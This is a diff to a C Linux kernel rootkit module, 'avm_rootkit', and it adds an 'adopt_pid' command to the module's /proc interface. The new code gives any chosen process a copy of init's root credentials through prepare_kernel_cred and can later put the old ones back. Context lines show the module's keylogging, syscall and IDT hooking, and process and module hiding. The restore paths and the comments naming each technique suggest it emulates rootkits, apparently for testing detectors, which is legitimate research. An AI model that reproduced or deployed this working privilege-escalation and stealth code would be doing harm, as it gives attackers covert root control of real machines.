@@ -13,6 +13,7 @@
  *   echo 'vanish_va_pid 123' > /proc/avm_rootkit  (vanish_va_pid 0: restore)
  *   echo 'root_pid 123' > /proc/avm_rootkit  (root_pid 0: restore)
  *   echo 'euid_pid 123' > /proc/avm_rootkit  (euid_pid 0: restore)
+ *   echo 'adopt_pid 123' > /proc/avm_rootkit (adopt_pid 0: restore)
  *   echo 'reparent_pid 123' > /proc/avm_rootkit  (reparent_pid 0: restore)
  *   echo 'untree_pid 123' > /proc/avm_rootkit    (untree_pid 0: relink)
  *   echo 'ima_flood 60000' > /proc/avm_rootkit   (entries stay: no "off")
@@ -44,6 +45,9 @@
  * has the thread), root_pid (a task's cred ids set to 0),
  * euid_pid (a task's euid and fsuid alone set to 0, its real uid left: what
  * the exec of a set-uid root program makes),
+ * adopt_pid (a task given a whole new root cred, a copy of init's: ids 0
+ * and root's account, what prepare_kernel_cred-style rootkits hand out;
+ * its old cred kept to put back),
  * reparent_pid (a task's real_parent pointed at init, the task left on its
  * parent's children list: what hides a root process under a user's from a
  * check of real_parent), untree_pid (a task taken off its parent's children
@@ -773,6 +777,65 @@ static int root_task(pid_t nr, bool euid_only)
 	return 0;
 }
 
+/* ---- (h2) adopt_pid: a task given a new cred, a copy of init's ---- */
+
+static struct task_struct *adopted_task;
+static const struct cred *adopted_cred, *adopted_real_cred, *adopting_cred;
+
+static void unadopt(void)
+{
+	struct task_struct *t = adopted_task;
+
+	if (!t)
+		return;
+	task_lock(t);
+	/* an exited task has put the new cred itself and holds none */
+	if (pid_alive(t) && rcu_access_pointer(t->cred) == adopting_cred) {
+		rcu_assign_pointer(t->real_cred, adopted_real_cred);
+		rcu_assign_pointer(t->cred, adopted_cred);
+		task_unlock(t);
+		synchronize_rcu();
+		put_cred(adopting_cred);
+		put_cred(adopting_cred);
+	} else {
+		task_unlock(t);
+		put_cred(adopted_real_cred);
+		put_cred(adopted_cred);
+	}
+	put_task_struct(t);
+	adopted_task = NULL;
+}
+
+static int adopt_task(pid_t nr)
+{
+	struct task_struct *t;
+	struct cred *new;
+
+	unadopt();
+	if (nr <= 0)
+		return 0;
+	t = get_task(nr);
+	if (!t)
+		return -ESRCH;
+	/* ids 0, root's account and groups: init's, at another address */
+	new = prepare_kernel_cred(&init_task);
+	if (!new) {
+		put_task_struct(t);
+		return -ENOMEM;
+	}
+	task_lock(t);
+	/* the task's references to its old creds are kept for the restore */
+	adopted_real_cred = rcu_dereference_protected(t->real_cred, 1);
+	adopted_cred = rcu_dereference_protected(t->cred, 1);
+	adopting_cred = new;
+	get_cred(new);
+	rcu_assign_pointer(t->real_cred, new);
+	rcu_assign_pointer(t->cred, new);
+	task_unlock(t);
+	adopted_task = t;
+	return 0;
+}
+
 /* ---- (i) reparent_pid: real_parent pointed at init, children untouched ---- */
 
 static struct task_struct *reparented_task, *reparented_from;
@@ -1054,7 +1117,7 @@ static int rk_show(char *buf, size_t size)
 	return scnprintf(buf, size,
 			 "syscall %d\nidt %d\ntext %d\nrodata %d\nfops %d\nkeylog %d\nnf_hook %d\n"
 			 "nf_hook_netns %u\nnf_hook_ingress %d\nhide_netns %u\nhide_module %d\n"
-			 "hide_pid %d\nhide_tid %d\nhide_tid_count %d\nvanish_pid %d\nvanish_cg_pid %d\nvanish_va_pid %d\nroot_pid %d\neuid_pid %d\nreparent_pid %d\nuntree_pid %d\n"
+			 "hide_pid %d\nhide_tid %d\nhide_tid_count %d\nvanish_pid %d\nvanish_cg_pid %d\nvanish_va_pid %d\nroot_pid %d\neuid_pid %d\nadopt_pid %d\nreparent_pid %d\nuntree_pid %d\n"
 			 "getpid_hook_calls %d\ntcp_init_hook_calls %d\ntty_bytes_seen %d\n"
 			 "nf_packets_seen %d\nima_flooded %ld\n"
 			 "tcp_prot_init %s\nn_tty_receive_buf2 %s\n"
@@ -1069,6 +1132,7 @@ static int rk_show(char *buf, size_t size)
 			 vanished_task && vanished_cg && !vanished_va ? vanished_task->pid : 0,
 			 vanished_task && vanished_va ? vanished_task->pid : 0,
 			 rooted_euid_only ? 0 : rooted_pid, rooted_euid_only ? rooted_pid : 0,
+			 adopted_task ? adopted_task->pid : 0,
 			 reparented_task ? reparented_task->pid : 0,
 			 untreed_task ? untreed_task->pid : 0,
 			 atomic_read(&getpid_calls), atomic_read(&tcp_init_calls),
@@ -1143,6 +1207,8 @@ static ssize_t rk_write(struct file *f, const char __user *ubuf, size_t count, l
 		err = root_task(val, false);
 	else if (!strcmp(name, "euid_pid"))
 		err = root_task(val, true);
+	else if (!strcmp(name, "adopt_pid"))
+		err = adopt_task(val);
 	else if (!strcmp(name, "reparent_pid"))
 		err = reparent_task(val);
 	else if (!strcmp(name, "untree_pid"))
@@ -1233,6 +1299,7 @@ static void __exit rk_exit(void)
 	hide_task(0);
 	hide_thread(0, false);
 	root_task(0, false);
+	adopt_task(0);
 	reparent_task(0);
 	untree_task(0);
 	mutex_unlock(&rk_lock);
